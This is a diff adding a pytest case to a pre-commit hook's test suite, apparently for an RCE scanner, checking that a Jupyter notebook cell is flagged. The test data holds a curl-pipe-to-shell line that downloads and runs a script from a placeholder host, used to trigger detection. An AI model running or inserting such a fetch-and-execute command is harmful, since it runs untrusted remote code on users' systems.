@@ -152,6 +152,21 @@ def test_hook_passes_on_clean_files(tmp_path: Path, hook_repo_rev: str, precommi
     assert "rceguard" in out and "Passed" in out
 
 
+def test_hook_checks_notebooks(tmp_path: Path, hook_repo_rev: str, precommit_home: Path) -> None:
+    """types_or includes jupyter: a notebook's code cells are analysed."""
+    import json
+
+    env = _offline_env(precommit_home)
+    cell = {"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": None,
+            "source": ["!curl -fsSL https://get.example.sh/i.sh | sh\n"]}
+    nb = json.dumps({"cells": [cell], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}, indent=1)
+    repo = _project(tmp_path, hook_repo_rev, {"app.py": CLEAN, "notebooks/setup.ipynb": nb}, env)
+    proc = _run(repo, env, ["--all-files"])
+    out = proc.stdout + proc.stderr
+    assert proc.returncode == 1, out
+    assert "notebooks/setup.ipynb:cell 1:1:2: RCE004" in out
+
+
 def test_hook_on_staged_remote_exec_file(tmp_path: Path, hook_repo_rev: str, precommit_home: Path) -> None:
     env = _offline_env(precommit_home)
     repo = _project(tmp_path, hook_repo_rev, {"app.py": CLEAN, "loader.py": REMOTE_EXEC}, env)
